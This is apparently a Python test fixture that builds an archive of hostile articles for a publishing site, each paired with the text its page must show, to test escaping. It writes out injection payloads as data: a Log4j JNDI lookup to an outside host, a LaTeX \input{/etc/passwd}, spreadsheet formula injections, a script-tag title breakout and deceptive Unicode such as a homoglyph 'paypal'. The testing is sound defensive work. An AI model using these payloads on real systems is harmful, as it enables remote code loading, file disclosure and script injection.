"""Hostile seeds that are published: one archive of them, with the words that each page must show."""

from __future__ import annotations

from dataclasses import dataclass

import yaml

from tests.hostile.payloads import HTML, MARKDOWN

CC0 = "https://creativecommons.org/publicdomain/zero/1.0/"

ODD_TEXTS = {
    "controls": ("a\x00b\x08c \x1b[31mred\x7f", "abc [31mred"),
    "isolates": ("one \u2066two\u2069 three", "one two three"),
    "tags": ("seen\U000e0068\U000e0069", "seen"),
    "noncharacter": ("left\ufdd0right\ufffe", "leftright"),
    "soft-hyphen": ("har\u00adbour", "harbour"),
    "zero-width": ("har\u200b\u200b\u200bbour", "har\u200b\u200b\u200bbour"),
    "mixed-script": ("pаypаl", "pаypаl"),
    "mojibake": ("donâ€™t cafÃ©", "donâ€™t cafÃ©"),
    "line-ends": ("one\rtwo\r\nthree\u2028four\x0bfive\x85six", "one two three four five six"),
    "mark": ("\ufeffwords", "words"),
    "not-nfc": ("cafe\u0301", "café"),
    "long": ("word " * 2000, ("word " * 2000).strip()),
    "long-word": ("x" * 9000, "x" * 9000),
    "numbers": (
        "1986. A year\n- not a list\n# not a heading\n    not code",
        "1986. A year - not a list # not a heading not code",
    ),
    "arabic": ("قال الوزير: لا", "قال الوزير: لا"),
    "emoji": ("👩‍👩‍👧 and 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👩‍👩‍👧 and 🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    "formula": ('=HYPERLINK("https://outside.example")', '=HYPERLINK("https://outside.example")'),
    "latex": (r"\input{/etc/passwd} } @misc{x}", r"\input{/etc/passwd} } @misc{x}"),
    "log4j": ("${jndi:ldap://outside.example/a}", "${jndi:ldap://outside.example/a}"),
    "quotes": ("\"'`´‘’“”«»", "\"'`´‘’“”«»"),
}
"""Texts with characters that do not belong there, and what is seen of them."""

TITLES = (
    "=1+1",
    "@SUM(A1)",
    "+44",
    "-1",
    "\\title}",
    "\"quoted\" 'both'",
    "</title><script>alert(1)</script>",
    "a: b # c",
)


@dataclass(frozen=True, slots=True)
class Published:
    """One hostile article."""

    id: str
    """Stem of its files."""
    files: dict[str, bytes]
    """Its files below `seeds/`."""
    title: str
    """Headline that the page must show."""
    text: str
    """Text as typed."""
    markdown: bool
    """True for a Markdown body."""
    seen: str = ""
    """What a reader sees of a plain text; empty where that is the text itself."""


def _dump(values: dict[str, object]) -> str:
    return yaml.safe_dump(values, allow_unicode=True, sort_keys=False)


def _record(title: str) -> dict[str, object]:
    return {"title": title, "access": "full", "rights": CC0, "published": "2031-04-02", "personal_data": ["e-mail"]}


def _plain(name: str, text: str, title: str, seen: str = "") -> Published:
    files = {f"{name}.txt": text.encode(), f"{name}.yml": _dump(_record(title)).encode()}
    return Published(name, files, title, text, markdown=False, seen=seen or text)


def _marked(name: str, text: str, title: str) -> Published:
    return Published(
        name, {f"{name}.md": f"---\n{_dump(_record(title))}---\n{text}".encode()}, title, text, markdown=True
    )


def _in_every_field(name: str, payload: str) -> Published:
    """One article whose record says the same thing in every field that takes words."""
    values: dict[str, object] = {
        **_record(f"Title {payload}"),
        "subtitle": f"Subtitle {payload}",
        "source": f"Source {payload}",
        "byline": [f"Byline {payload}"],
        "people": [f"Person {payload}", "hostile-person"],
        "topics": ["hostile-topic"],
        "summary": f"Summary {payload}\n\nSecond {payload}",
        "rights": {"statement": CC0, "holder": f"Holder {payload}", "note": f"Rights note {payload}"},
        "notes": f"Notes {payload}",
        "editors_note": f"Editor {payload}",
        "outcome": f"Outcome {payload}",
        "corrections": [{"on": "2031-05-02", "note": f"Correction {payload}"}],
        "sensitivity": [f"Sensitivity {payload}"],
        "reviewed": {"by": f"Reviewer {payload}", "on": "2031-05-02"},
        "url": "https://outside.example/a_b?c=d&e=%22f%22#g",
    }
    files = {f"{name}.yml": _dump(values).encode(), f"{name}.txt": b"A quiet text about a harbour.\n"}
    return Published(
        name,
        files,
        f"Title {payload}",
        "A quiet text about a harbour.",
        markdown=False,
        seen="A quiet text about a harbour.",
    )


def registers(payload: str) -> dict[str, bytes]:
    """Registers that say it in every field that takes words."""
    people = {
        "hostile-person": {
            "name": f"Person {payload}",
            "sort_name": f"Sort {payload}",
            "aliases": [f"Alias {payload}"],
            "note": f"Note {payload}",
        }
    }
    topics = {
        "hostile-topic": {"label": f"Topic {payload}", "scope": f"Scope {payload}", "aliases": [f"Called {payload}"]}
    }
    sources = {"hostile-source": {"name": f"Outlet {payload}", "kind": f"kind {payload}", "note": f"Note {payload}"}}
    return {
        "registers/people.yml": _dump({"people": people, "not_people": [f"Nobody {payload}"]}).encode(),
        "registers/topics.yml": _dump({"topics": topics}).encode(),
        "registers/sources.yml": _dump({"sources": sources}).encode(),
    }


FIELDS = ("script", "img-onerror", "title", "textarea", "comment", "script-part", "entity-tag")
REGISTERED = HTML["img-onerror"] + " " + HTML["script"]
ALL = (
    *(_plain(f"html-txt-{name}", text, f"{name} {text}") for name, text in HTML.items()),
    *(_marked(f"html-md-{name}", text, f"{name} as Markdown") for name, text in HTML.items()),
    *(_marked(f"md-{name}", text, f"{name} in Markdown") for name, text in MARKDOWN.items()),
    *(_plain(f"md-txt-{name}", text, f"{name} as plain text") for name, text in MARKDOWN.items()),
    *(_plain(f"odd-{name}", text, f"odd {name}", seen) for name, (text, seen) in ODD_TEXTS.items()),
    *(_plain(f"title-{number}", "Quiet words.", title) for number, title in enumerate(TITLES)),
    *(_in_every_field(f"fields-{name}", HTML[name]) for name in FIELDS),
)
"""Everything that is published."""


def archive() -> dict[str, bytes]:
    """All files of the archive, below its root."""
    files = dict(registers(REGISTERED))
    for article in ALL:
        files |= article.files
    return {f"seeds/{path}": content for path, content in files.items()}
